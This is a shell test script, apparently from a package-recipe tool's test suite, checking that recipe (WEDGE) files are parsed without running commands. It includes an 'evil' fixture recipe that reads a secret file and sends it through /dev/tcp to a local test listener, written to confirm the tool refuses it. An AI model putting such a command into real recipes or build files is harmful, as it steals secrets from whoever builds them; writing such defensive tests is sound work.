#!/bin/sh
test_description='knot reads recipes without running them: in the box, with no command of the WEDGE file run'
. "$(dirname "$0")/test-lib.sh"
. "$TEST_DIRECTORY/lib-knot.sh"

T=$TRASH_DIRECTORY

# A listener on 127.0.0.1 that writes what each connection sent, a line
# per connection, into conns; its port is in "port" once it listens.
start_listener() {
	python3 -c "
import socket
s = socket.socket()
s.bind((\"127.0.0.1\", 0))
s.listen(16)
open(\"port.new\", \"w\").write(str(s.getsockname()[1]))
__import__(\"os\").rename(\"port.new\", \"port\")
while True:
    c, _ = s.accept()
    c.settimeout(5)
    data = b\"\"
    try:
        while True:
            b = c.recv(4096)
            if not b:
                break
            data += b
    except OSError:
        pass
    c.close()
    with open(\"conns\", \"ab\") as f:
        f.write(b\"conn: \" + data + b\"\\n\")
" >/dev/null 2>&1 &
	echo $! >listener.pid
}

test_expect_success 'setup: a listener, a file only its owner reads, recipes' '
	start_listener &&
	test_wait_for "test -s port" 10 &&
	echo "the secret 4f2a" >secret && chmod 600 secret &&
	knot_setup &&
	knot_recipe good 1.0
'
test_atexit 'kill $(cat "$TRASH_DIRECTORY/listener.pid")'

PORT=$(cat port 2>/dev/null)

test_expect_success 'setup: a recipe whose top level reads the secret and sends it' '
	mkdir -p deps/source.medo/evil &&
	cat >deps/source.medo/evil/WEDGE <<-EOF &&
	WEDGE_NAME=evil
	WEDGE_VERSION=1.0
	secret=\$(cat $T/secret)
	exec 3<>/dev/tcp/127.0.0.1/$PORT
	echo "\$secret" >&3
	wedge-make() { :; }
	wedge-install() { :; }
	EOF
	knot_source evil 1.0
'

# no_connection: no connection came but the one made here, after knot.
no_connection() {
	bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT; printf sentinel >&3" &&
	i=0 && while ! grep -q "^conn: sentinel\$" conns 2>/dev/null; do
		i=$((i + 1)) && test $i -lt 100 && sleep 0.1 || return 1
	done &&
	echo "conn: sentinel" >expect &&
	test_cmp expect conns &&
	rm conns
}

cat >expect-refused <<EOF
knot: error: 'deps/source.medo/evil': WEDGE:3: 'secret=\$(cat $T/secret)' is a command at the top level, where only assignments, function definitions and 'set -o' may be (knot runs no command when it reads a recipe)
EOF

test_expect_success 'knot validate refuses it, saying why; nothing was read or sent' '
	test_expect_code 5 knot validate deps/source.medo/evil >out 2>err &&
	test_must_be_empty out &&
	test_cmp expect-refused err &&
	no_connection
'

test_expect_success 'knot validate --unboxed refuses it the same way, on the host' '
	test_expect_code 5 knot validate --unboxed deps/source.medo/evil >out 2>err &&
	test_cmp expect-refused err &&
	no_connection
'

test_expect_success 'knot key, list and build refuse it too, and send nothing' '
	test_expect_code 5 knot key deps/source.medo/evil 2>err &&
	grep -q "WEDGE:3: .secret=" err &&
	test_expect_code 5 knot key --unboxed deps/source.medo/evil 2>err &&
	test_expect_code 5 knot list deps/source.medo 2>err &&
	test_expect_code 5 knot build deps/source.medo/evil 2>err &&
	grep -q "WEDGE:3: .secret=.* (see knot validate)" err &&
	! grep -r "4f2a" . --exclude=secret &&
	no_connection
'

test_lazy_prereq USERNS 'unshare -r true'

test_expect_success USERNS 'where no box can be made, recipes are read on the host, still running nothing' '
	test_expect_code 5 unshare -r sh -c "echo 0 >/proc/sys/user/max_user_namespaces && exec knot validate deps/source.medo/evil" \
		>out 2>err &&
	test_cmp expect-refused err &&
	no_connection
'

test_expect_success BOX 'recipes are read in the box: its user, its host name, no network' '
	mkdir -p deps/source.medo/who &&
	cat >deps/source.medo/who/WEDGE <<-\EOF &&
	WEDGE_NAME=who
	WEDGE_VERSION=$EUID
	WEDGE_TARBALL_NAME=$HOSTNAME
	wedge-make() { :; }
	wedge-install() { :; }
	EOF
	: >deps/source.medo/who/other-0.treeptr &&
	test_expect_code 5 knot validate deps/source.medo/who 2>err &&
	grep -q "its source treeptr .*/who/knot-1000.treeptr. is missing" err &&
	test_expect_code 5 knot validate --unboxed deps/source.medo/who 2>err &&
	grep -q "its source treeptr .*/who/$(hostname)-$(id -u).treeptr. is missing" err
'

test_expect_success 'a recipe that loops at its top level is stopped' '
	mkdir -p deps/source.medo/loop &&
	printf "WEDGE_NAME=loop\nwhile X=1; do Y=2; done\n" >deps/source.medo/loop/WEDGE &&
	KNOT_LIMITS=time=1s test_expect_code 5 knot validate deps/source.medo/loop 2>err &&
	grep -q "reading .*/loop/WEDGE. took longer than 1 s: does a WEDGE file loop at its top level?" err &&
	KNOT_LIMITS=time=1s test_expect_code 5 knot validate --unboxed deps/source.medo/loop 2>err &&
	grep -q "reading .*/loop/WEDGE. took longer than 1 s" err
'

test_done
